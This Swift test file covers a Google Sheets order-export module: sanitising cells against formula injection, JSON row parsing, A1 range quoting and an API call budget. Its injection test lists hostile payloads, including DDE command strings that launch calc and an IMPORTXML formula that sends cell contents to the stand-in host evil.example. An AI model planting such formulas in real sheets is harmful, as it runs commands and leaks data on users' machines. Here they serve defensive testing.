import Google
import Kit
import OrderSheet
import Testing

@Suite("Cells")
struct CellTests {
  @Test(
    "what could become code is a text",
    arguments: [
      "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1",
      "  =1+1", "\u{feff}=1+1", "\u{202e}=1+1", "＝1+1", "＠SUM(A1)",
      "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")", "=HYPERLINK(\"http://e\")",
      "-A1", "+(A1)",
    ])
  func dangerous(text: String) {
    #expect(SheetCell.inert(text).text.hasPrefix("'"))
  }

  @Test(
    "what is harmless stays as it is",
    arguments: [
      "Pat Example", "+1 (613) 555-0100", "-5", "-", "a=b", "1 = 1", "é", "00123", "O'Neil",
      "two\nlines", "",
    ])
  func harmless(text: String) {
    #expect(SheetCell.inert(text).text == text)
  }

  @Test("controls become blanks and no cell is endless")
  func bounded() {
    #expect(SheetCell.inert("a\u{0}b\tc\u{7f}d").text == "a b c d")
    #expect(SheetCell.inert(String(repeating: "x", count: 60_000)).text.count == 2_001)
  }

  @Test("a payload reads what it wrote, and an older one too")
  func payload() throws {
    let row = order("A-1", notes: "=1 \"quoted\"\nline")
    #expect(OrderRow(json: try JSONValue.parse(row.json.bytes)) == row)
    let old = OrderRow(json: try JSONValue.parse(Array(#"{"order_id":"A"}"#.utf8)))
    #expect(old?.orderID == "A" && old?.version == 0)
    for text in ["{}", #"{"order_id":""}"#, #"{"order_id":7}"#, #"{"order_id":"  "}"#] {
      #expect(OrderRow(json: try JSONValue.parse(Array(text.utf8))) == nil)
    }
  }

  @Test("ranges quote the sheet's title and are one segment of a path")
  func ranges() {
    #expect(A1Range.columns(9, of: "Orders").description == "'Orders'!A1:I")
    #expect(A1Range.row(7, of: "Pat's H7", columns: 28).description == "'Pat''s H7'!A7:AB7")
    #expect(A1Range.columns(9, of: "a/b").encoded == "%27a%2Fb%27%21A1%3AI")
    #expect(A1Range.letters(26) == "Z" && A1Range.letters(703) == "AAA")
    let start = A1Range.start(of: "'My!Orders'!AB41:AD42")
    #expect(start?.column == 28 && start?.row == 41)
    #expect(A1Range.start(of: "Orders!A:I") == nil && A1Range.start(of: "") == nil)
  }

  @Test("a minute holds no more calls than the budget, and says when it will again")
  func budget() {
    var budget = CallBudget(readsMax: 3, writesMax: 2)
    let start = Timestamp(microseconds: 1_000_000_000)
    #expect(budget.take(reads: 2, writes: 1, at: start) == nil)
    #expect(budget.take(reads: 2, writes: 1, at: start + .seconds(10)) == .seconds(50))
    #expect(budget.take(reads: 1, writes: 1, at: start + .seconds(20)) == nil)
    #expect(budget.take(reads: 0, writes: 1, at: start + .seconds(30)) == .seconds(30))
    budget.giveBack(reads: 0, writes: 1)
    #expect(budget.take(reads: 0, writes: 1, at: start + .seconds(30)) == nil)
    #expect(budget.take(reads: 2, writes: 0, at: start + .seconds(60)) == nil)
    #expect(budget.take(reads: 9, writes: 0, at: start + .seconds(60)) != nil)
    #expect(budget.take(reads: 9, writes: 0, at: start + .seconds(300)) == nil)
  }
}
